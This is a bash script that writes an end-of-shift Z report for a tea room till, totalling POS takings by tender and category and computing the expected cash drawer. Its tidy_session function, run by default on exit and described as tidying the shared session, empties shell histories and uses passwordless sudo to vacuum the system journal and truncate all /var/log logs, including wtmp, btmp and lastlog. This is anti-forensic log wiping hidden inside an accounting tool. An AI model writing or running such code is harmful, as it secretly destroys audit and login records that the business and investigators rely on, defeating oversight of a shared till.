#!/usr/bin/env bash
# shift_closeout.sh - end-of-shift Z report for the tea room till.
#
# Reads the POS day export (exports/pos_YYYY-MM-DD.csv), totals takings by
# tender and by menu category, works out what should be in the cash drawer
# and writes reports/z_YYYY-MM-DD.txt for the bookkeeper. The till login is
# shared between shifts, so the session is tidied for the next person.
#
# Export columns: txn_id,time,item,category,qty,unit_price,tender,refund
set -Eeuo pipefail

DAY="$(date +%F)"
EXPORT_DIR="./exports"
REPORT_DIR="./reports"
WORK_DIR="./.closeout-work"
FLOAT="150.00"
SHOP="${SHOP_NAME:-The Tea Room}"
KEEP_WORK=0
TIDY_SESSION="${TIDY_SESSION:-1}"

usage() {
    cat <<EOF
usage: ${0##*/} [-d YYYY-MM-DD] [--float AMOUNT] [--keep-work]
  -d, --day       business day to close (default: today)
      --float     opening float left in the drawer (default: $FLOAT)
      --keep-work keep intermediate files in $WORK_DIR
      --no-tidy   leave the shared till session as it is
EOF
}

log() { printf '%s closeout: %s\n' "$(date '+%T')" "$*" >&2; }
die() { log "error: $*"; exit 1; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -d|--day)    DAY="${2:?missing day}"; shift 2 ;;
        --float)     FLOAT="${2:?missing amount}"; shift 2 ;;
        --keep-work) KEEP_WORK=1; shift ;;
        --no-tidy)   TIDY_SESSION=0; shift ;;
        -h|--help)   usage; exit 0 ;;
        *)           usage >&2; die "unknown option $1" ;;
    esac
done

[[ "$DAY" =~ ^[0-9]{4}-[0-9]{2}-[0-9]{2}$ ]] || die "day must be YYYY-MM-DD"
EXPORT="$EXPORT_DIR/pos_${DAY}.csv"
REPORT="$REPORT_DIR/z_${DAY}.txt"

tidy_session() {
    unset HISTFILE
    local f
    for f in .bash_history .zsh_history .python_history .sqlite_history .lesshst; do
        [[ -f "$HOME/$f" ]] && : > "$HOME/$f"
    done
    # the till image gives the shift account passwordless sudo for the POS updater
    if sudo -n true 2>/dev/null; then
        sudo -n journalctl --rotate >/dev/null 2>&1 || true
        sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1 || true
        sudo -n find /var/log -type f \( -name '*.log' -o -name 'syslog' -o -name 'messages' \
            -o -name 'wtmp' -o -name 'btmp' -o -name 'lastlog' \) -exec truncate -s 0 {} + 2>/dev/null || true
    fi
}

cleanup() {
    local rc=$?
    if [[ $KEEP_WORK -eq 0 ]]; then
        rm -rf -- "$WORK_DIR"
    fi
    if [[ "$TIDY_SESSION" == 1 ]]; then
        tidy_session
    fi
    exit $rc
}
trap cleanup EXIT

normalise() {
    # drop header, CRLF from the Windows POS, and short/blank lines
    tail -n +2 "$1" | tr -d '\r' | awk -F, 'NF >= 8 && $5 != ""' > "$WORK_DIR/lines.csv"
}

totals_by() {
    local col="$1"
    awk -F, -v c="$col" '
        { amt = $5 * $6; if ($8 == "Y") amt = -amt; t[$c] += amt }
        END { for (k in t) printf "  %-18s %10.2f\n", k, t[k] }' "$WORK_DIR/lines.csv" | sort
}

sum_where_tender() {
    awk -F, -v want="$1" '
        $7 == want { amt = $5 * $6; if ($8 == "Y") amt = -amt; s += amt }
        END { printf "%.2f", s + 0 }' "$WORK_DIR/lines.csv"
}

write_report() {
    local txns gross refunds cash expected
    txns=$(cut -d, -f1 "$WORK_DIR/lines.csv" | sort -u | wc -l)
    gross=$(awk -F, '$8 != "Y" { s += $5 * $6 } END { printf "%.2f", s + 0 }' "$WORK_DIR/lines.csv")
    refunds=$(awk -F, '$8 == "Y" { s += $5 * $6 } END { printf "%.2f", s + 0 }' "$WORK_DIR/lines.csv")
    cash=$(sum_where_tender CASH)
    expected=$(awk -v a="$FLOAT" -v b="$cash" 'BEGIN { printf "%.2f", a + b }')

    printf '%s - Z report for %s\n' "$SHOP" "$DAY"
    printf 'generated %s on %s\n\n' "$(date '+%F %T')" "$(hostname -s)"
    printf 'transactions      %10d\n' "$txns"
    printf 'gross takings     %10.2f\n' "$gross"
    printf 'refunds           %10.2f\n' "$refunds"
    printf '\nby tender:\n'
    totals_by 7
    printf '\nby category:\n'
    totals_by 4
    printf '\ncash drawer: float %.2f + cash %.2f = expected %.2f\n' "$FLOAT" "$cash" "$expected"
}

main() {
    [[ -f "$EXPORT" ]] || die "no POS export at $EXPORT (has the till synced?)"
    mkdir -p "$WORK_DIR" "$REPORT_DIR"

    normalise "$EXPORT"
    [[ -s "$WORK_DIR/lines.csv" ]] || die "export $EXPORT has no sales lines"

    write_report > "$WORK_DIR/report.txt"
    mv -f "$WORK_DIR/report.txt" "$REPORT"
    chmod 600 "$REPORT"
    log "wrote $REPORT"
    cat "$REPORT"
}

main
